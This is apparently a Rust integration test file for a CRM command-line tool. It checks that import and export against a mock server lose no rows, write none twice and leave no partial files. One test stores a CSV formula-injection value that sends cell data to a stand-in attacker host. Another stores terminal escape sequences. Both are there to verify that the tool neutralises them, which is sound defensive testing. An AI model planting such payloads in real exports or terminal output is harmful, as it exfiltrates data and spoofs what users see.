//! Ordinary mistakes around `import` and `export`, as a user makes them, against
//! lightfield-mock over HTTP: none may lose a row, write it twice, or leave a file that
//! looks complete and is not. And nothing a CRM value holds may act on the way out.

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use lightfield_mock::{Fault, FaultKind, MockConfig, MockServer};
use serde_json::json;

const KEY: &str = "sk_lf_mistakes_secret";

fn command(server: &MockServer, key: &str, args: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_lightfield"));
    command
        .args(args)
        .env("LIGHTFIELD_API_KEY", key)
        .env("LIGHTFIELD_BASE_URL", server.url())
        .arg("--no-rate-limit");
    command
}

fn run(server: &MockServer, args: &[&str]) -> Output {
    command(server, KEY, args)
        .output()
        .expect("the binary runs")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

async fn server() -> MockServer {
    MockServer::start_with(MockConfig {
        rate_limit: None,
        ..MockConfig::default()
    })
    .await
    .expect("mock starts")
}

/// Creates an account from `body` through the CLI, as a user would.
fn create(server: &MockServer, body: &serde_json::Value) {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = dir.path().join("body.json");
    std::fs::write(&file, body.to_string()).expect("written");
    let created = run(
        server,
        &["accounts", "create", "--json", file.to_str().unwrap()],
    );
    assert!(created.status.success(), "{}", text(&created.stderr));
}

fn names(server: &MockServer) -> Vec<String> {
    let mut names: Vec<String> = server
        .records_of("account")
        .iter()
        .filter_map(|r| r["fields"]["$name"]["value"].as_str().map(str::to_string))
        .collect();
    names.sort();
    names
}

fn write(path: &Path, rows: &[&str]) {
    let body: String = std::iter::once("$name,seats")
        .chain(rows.iter().copied())
        .map(|r| format!("{r}\n"))
        .collect();
    std::fs::write(path, body).expect("input written");
}

#[tokio::test(flavor = "multi_thread")]
async fn another_target_is_refused_until_asked_for_and_then_imported_once() {
    let (staging, production) = (server().await, server().await);
    let dir = tempfile::tempdir().expect("temp dir");
    let input = dir.path().join("accounts.csv");
    write(&input, &["Alpha,1", "Beta,2"]);
    let file = input.to_str().unwrap();
    assert!(run(&staging, &["import", "account", file]).status.success());

    let refused = run(&production, &["import", "account", file]);
    let why = text(&refused.stderr);
    assert_eq!(refused.status.code(), Some(5), "{why}");
    assert!(
        why.contains(staging.url()) && why.contains(production.url()),
        "{why}"
    );
    assert!(why.contains("--new-journal"), "{why}");
    assert!(
        names(&production).is_empty(),
        "nothing was written to production"
    );

    let again = run(&production, &["import", "account", file, "--new-journal"]);
    assert!(again.status.success(), "{}", text(&again.stderr));
    assert_eq!(names(&production), ["Alpha", "Beta"]);
    assert_eq!(names(&staging), ["Alpha", "Beta"], "staging untouched");
    // The journal of the first target is kept beside the new one.
    let kept = std::fs::read_dir(dir.path())
        .expect("dir")
        .filter_map(Result::ok)
        .filter(|e| {
            e.file_name()
                .to_string_lossy()
                .starts_with("accounts.csv.journal.")
        })
        .count();
    assert_eq!(kept, 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_edited_file_resumes_and_a_copy_of_it_is_already_imported() {
    let server = server().await;
    let dir = tempfile::tempdir().expect("temp dir");
    let input = dir.path().join("accounts.csv");
    write(&input, &["Alpha,1", "Beta,2", "Gamma,3"]);
    let file = input.to_str().unwrap();
    assert!(run(&server, &["import", "account", file]).status.success());

    // One row fixed, one added, rows moved: unchanged rows keep their identity.
    write(&input, &["Delta,4", "Gamma,3", "Beta,20", "Alpha,1"]);
    let out = run(&server, &["import", "account", file]);
    let said = text(&out.stderr);
    assert!(out.status.success(), "{said}");
    assert!(
        said.contains("2 created") && said.contains("2 finished in an earlier run"),
        "{said}"
    );
    // The edited row is a new row (written once); nothing else is written again.
    assert_eq!(names(&server), ["Alpha", "Beta", "Beta", "Delta", "Gamma"]);

    // A byte-identical copy, in another place: the server replays every row.
    let copy = dir.path().join("copy.csv");
    std::fs::copy(&input, &copy).expect("copied");
    let out = run(&server, &["import", "account", copy.to_str().unwrap()]);
    let said = text(&out.stderr);
    assert!(out.status.success(), "{said}");
    assert!(
        said.contains("0 created") && said.contains("4 already imported"),
        "{said}"
    );
    assert_eq!(names(&server).len(), 5);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_fixed_after_a_partial_run_ends_with_one_record_per_row() {
    let server = server().await;
    let dir = tempfile::tempdir().expect("temp dir");
    let input = dir.path().join("accounts.csv");
    // The run stops partway for one row's data; the user fixes that row and adds two.
    write(&input, &["Alpha,1", "Beta,lots", "Gamma,3"]);
    let file = input.to_str().unwrap();
    assert_eq!(
        run(&server, &["import", "account", file]).status.code(),
        Some(6)
    );
    write(
        &input,
        &["Alpha,1", "Beta,2", "Gamma,3", "Delta,4", "Epsilon,5"],
    );
    let out = run(&server, &["import", "account", file]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(
        names(&server),
        ["Alpha", "Beta", "Delta", "Epsilon", "Gamma"]
    );
    assert!(
        !dir.path().join("accounts.csv.rejects.csv").exists(),
        "no rejects are left once every row is in"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn failures_that_are_not_the_rows_fault_stop_the_run_and_lose_nothing() {
    let server = server().await;
    let dir = tempfile::tempdir().expect("temp dir");
    let input = dir.path().join("accounts.csv");
    write(&input, &["Alpha,1", "Beta,lots", "Gamma,3"]);
    let file = input.to_str().unwrap();
    let rejects = dir.path().join("accounts.csv.rejects.csv");
    // A key revoked, then a write still running under the same key, then a redirect.
    for kind in [
        FaultKind::Status(401),
        FaultKind::IdempotencyConflict,
        FaultKind::Status(307),
    ] {
        // Every attempt of the first write fails the same way (retries included).
        server.inject(
            Fault::new(kind.clone())
                .method("POST")
                .path("/v1/accounts")
                .times(10),
        );
        let out = command(
            &server,
            KEY,
            &["import", "account", file, "--concurrency", "1"],
        )
        .output()
        .expect("runs");
        let said = text(&out.stderr);
        assert!(!out.status.success(), "{kind:?}: {said}");
        assert!(
            said.contains("run the same command again"),
            "{kind:?}: {said}"
        );
        server.clear_faults();
    }
    // Only the row whose data is wrong was ever rejected.
    let out = run(&server, &["import", "account", file]);
    assert_eq!(out.status.code(), Some(6), "{}", text(&out.stderr));
    assert_eq!(names(&server), ["Alpha", "Gamma"]);
    let rejected = std::fs::read_to_string(&rejects).expect("rejects");
    assert_eq!(rejected.lines().count(), 2, "{rejected}");
    assert!(rejected.contains("Beta,lots,3,"), "{rejected}");
    // The rejects file is written fresh: a second run lists the same row once.
    run(&server, &["import", "account", file]);
    assert_eq!(
        std::fs::read_to_string(&rejects).expect("rejects"),
        rejected
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_row_with_the_wrong_number_of_cells_is_a_problem_not_a_shift() {
    let server = server().await;
    let dir = tempfile::tempdir().expect("temp dir");
    let input = dir.path().join("accounts.csv");
    std::fs::write(
        &input,
        "$name,seats\nAlpha,1\n\"Beta, Inc\",2,extra\nGamma\n",
    )
    .expect("w");
    let file = input.to_str().unwrap();
    let dry = run(&server, &["import", "account", file, "--dry-run"]);
    let listed = text(&dry.stdout);
    assert!(
        listed.contains("row 3: has 3 cells where the header has 2"),
        "{listed}"
    );
    assert!(listed.contains("row 4: has 1 cells"), "{listed}");
    let out = run(&server, &["import", "account", file]);
    assert_eq!(out.status.code(), Some(6), "{}", text(&out.stderr));
    assert_eq!(names(&server), ["Alpha"]);
    let rejected = std::fs::read_to_string(dir.path().join("accounts.csv.rejects.csv")).unwrap();
    assert!(rejected.contains("\"Beta, Inc\",2,3,"), "{rejected}");
    assert!(
        rejected.contains("[\"\"extra\"\"]"),
        "extra cells are kept: {rejected}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn two_imports_of_one_file_at_once_are_refused() {
    let server = server().await;
    server.set_latency(Duration::from_millis(100));
    let dir = tempfile::tempdir().expect("temp dir");
    let input = dir.path().join("accounts.csv");
    let rows: Vec<String> = (0..30).map(|i| format!("Row {i:02},{i}")).collect();
    write(&input, &rows.iter().map(String::as_str).collect::<Vec<_>>());
    let file = input.to_str().unwrap();
    let mut first = command(
        &server,
        KEY,
        &["import", "account", file, "--concurrency", "1"],
    )
    .stdout(Stdio::null())
    .stderr(Stdio::null())
    .spawn()
    .expect("starts");
    let journal = dir.path().join("accounts.csv.journal");
    let started = Instant::now();
    while !std::fs::read_to_string(&journal).is_ok_and(|j| j.lines().count() > 2) {
        assert!(started.elapsed() < Duration::from_secs(30), "no progress");
        std::thread::sleep(Duration::from_millis(20));
    }
    let second = run(&server, &["import", "account", file]);
    assert_eq!(second.status.code(), Some(5), "{}", text(&second.stderr));
    assert!(
        text(&second.stderr).contains("another import"),
        "{}",
        text(&second.stderr)
    );
    assert!(first.wait().expect("first ends").success());
    assert_eq!(names(&server).len(), 30);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_failed_export_leaves_the_earlier_file_untouched() {
    let server = server().await;
    let dir = tempfile::tempdir().expect("temp dir");
    let input = dir.path().join("seed.csv");
    let rows: Vec<String> = (0..60).map(|i| format!("Row {i:02},{i}")).collect();
    write(&input, &rows.iter().map(String::as_str).collect::<Vec<_>>());
    assert!(
        run(&server, &["import", "account", input.to_str().unwrap()])
            .status
            .success()
    );
    let backup = dir.path().join("backup.jsonl");
    let path = backup.to_str().unwrap();
    let good = run(&server, &["export", "account", "-o", path]);
    assert!(good.status.success(), "{}", text(&good.stderr));
    let before = std::fs::read(&backup).expect("written");

    // The server fails once the export has begun (its file opened).
    server.inject(
        Fault::status(500)
            .method("GET")
            .path("/v1/accounts")
            .always(),
    );
    let failed = command(&server, KEY, &["export", "account", "-o", path])
        .output()
        .expect("runs");
    assert!(!failed.status.success());
    assert!(
        text(&failed.stderr).contains("was left as it was"),
        "{}",
        text(&failed.stderr)
    );
    assert_eq!(std::fs::read(&backup).expect("still there"), before);
    let leftovers = std::fs::read_dir(dir.path())
        .expect("dir")
        .filter_map(Result::ok)
        .filter(|e| e.file_name().to_string_lossy().starts_with('.'))
        .count();
    assert_eq!(leftovers, 0, "no temporary file is left behind");
}

#[tokio::test(flavor = "multi_thread")]
async fn csv_cells_cannot_run_as_formulas_and_import_gives_them_back() {
    let source = server().await;
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Click\")";
    create(&source, &json!({"fields": {"$name": formula, "seats": -3}}));
    let dir = tempfile::tempdir().expect("temp dir");
    let csv = dir.path().join("accounts.csv");
    let out = run(&source, &["export", "account", "-o", csv.to_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let written = std::fs::read_to_string(&csv).expect("written");
    assert!(written.contains("\"'=HYPERLINK("), "{written}");
    assert!(
        written.contains(",-3,") || written.contains(",-3\n"),
        "numbers stay numbers: {written}"
    );

    let target = server().await;
    let out = run(
        &target,
        &["import", "account", csv.to_str().unwrap(), "--as-new"],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(
        names(&target),
        [formula],
        "import undoes exactly the quoting"
    );

    let raw = dir.path().join("raw.csv");
    let out = run(
        &source,
        &[
            "export",
            "account",
            "-o",
            raw.to_str().unwrap(),
            "--raw-csv",
        ],
    );
    assert!(out.status.success());
    assert!(
        std::fs::read_to_string(&raw)
            .unwrap()
            .contains("\"=HYPERLINK(")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn control_characters_from_the_crm_reach_the_terminal_escaped() {
    let server = server().await;
    let hostile = "Evil\u{1b}]0;PWNED\u{7}\u{1b}[2K\rInnocent Corp";
    create(&server, &json!({"fields": {"$name": hostile}}));
    let table = run(&server, &["accounts", "list", "--format", "table"]);
    let shown = text(&table.stdout);
    assert!(
        shown.contains("Evil\\u{1b}]0;PWNED"),
        "shown, escaped: {shown}"
    );
    assert!(
        !shown.contains('\u{1b}') && !shown.contains('\u{7}'),
        "{shown:?}"
    );
    let missing = run(&server, &["accounts", "get", "acc_\u{1b}]0;x\u{7}"]);
    assert!(
        !text(&missing.stderr).contains('\u{1b}'),
        "{:?}",
        text(&missing.stderr)
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn ctrl_c_during_an_import_says_how_to_resume_and_the_rerun_writes_each_row_once() {
    let server = server().await;
    server.set_latency(Duration::from_millis(50));
    let dir = tempfile::tempdir().expect("temp dir");
    let input = dir.path().join("accounts.csv");
    let rows: Vec<String> = (0..40).map(|i| format!("Row {i:02},{i}")).collect();
    write(&input, &rows.iter().map(String::as_str).collect::<Vec<_>>());
    let file = input.to_str().unwrap();
    let child = command(&server, KEY, &["import", "account", file])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("starts");
    let journal = dir.path().join("accounts.csv.journal");
    let started = Instant::now();
    while !std::fs::read_to_string(&journal).is_ok_and(|j| j.lines().count() > 5) {
        assert!(started.elapsed() < Duration::from_secs(30), "no progress");
        std::thread::sleep(Duration::from_millis(20));
    }
    // Ctrl-C, sent by the test itself (a fresh machine need not have a `kill` binary).
    let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).expect("a pid"));
    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGINT).expect("SIGINT sent");
    let out = child.wait_with_output().expect("ends");
    let said = text(&out.stderr);
    assert_eq!(out.status.code(), Some(130), "{said}");
    assert!(said.contains("run the same command again"), "{said}");
    let out = run(&server, &["import", "account", file]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let expected: Vec<String> = (0..40).map(|i| format!("Row {i:02}")).collect();
    assert_eq!(names(&server), expected, "every row exactly once");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_killed_export_leaves_the_earlier_file_untouched() {
    let server = server().await;
    let dir = tempfile::tempdir().expect("temp dir");
    let input = dir.path().join("seed.csv");
    let rows: Vec<String> = (0..100).map(|i| format!("Row {i:02},{i}")).collect();
    write(&input, &rows.iter().map(String::as_str).collect::<Vec<_>>());
    assert!(
        run(&server, &["import", "account", input.to_str().unwrap()])
            .status
            .success()
    );
    let backup = dir.path().join("backup.csv");
    let path = backup.to_str().unwrap();
    assert!(
        run(&server, &["export", "account", "-o", path])
            .status
            .success()
    );
    let before = std::fs::read(&backup).expect("written");
    server.set_latency(Duration::from_millis(300));
    let mut child = command(
        &server,
        KEY,
        &["export", "account", "-o", path, "--concurrency", "1"],
    )
    .stderr(Stdio::null())
    .spawn()
    .expect("starts");
    std::thread::sleep(Duration::from_millis(900));
    child.kill().expect("SIGKILL");
    let _ = child.wait();
    assert_eq!(std::fs::read(&backup).expect("still there"), before);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_reader_that_stops_early_ends_the_output_quietly() {
    let server = server().await;
    let dir = tempfile::tempdir().expect("temp dir");
    let input = dir.path().join("seed.csv");
    let rows: Vec<String> = (0..300).map(|i| format!("Row {i:03},{i}")).collect();
    write(&input, &rows.iter().map(String::as_str).collect::<Vec<_>>());
    assert!(
        run(&server, &["import", "account", input.to_str().unwrap()])
            .status
            .success()
    );
    for args in [
        vec!["export", "account"],
        vec!["accounts", "list", "--format", "jsonl", "--limit", "25"],
    ] {
        let mut child = command(&server, KEY, &args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("starts");
        // The reader takes nothing and goes away, like `| head -0`.
        drop(child.stdout.take());
        let out = child.wait_with_output().expect("ends");
        let said = text(&out.stderr);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {said}");
        assert!(
            !said.contains("error") && !said.contains("panicked"),
            "{args:?}: {said}"
        );
    }
}
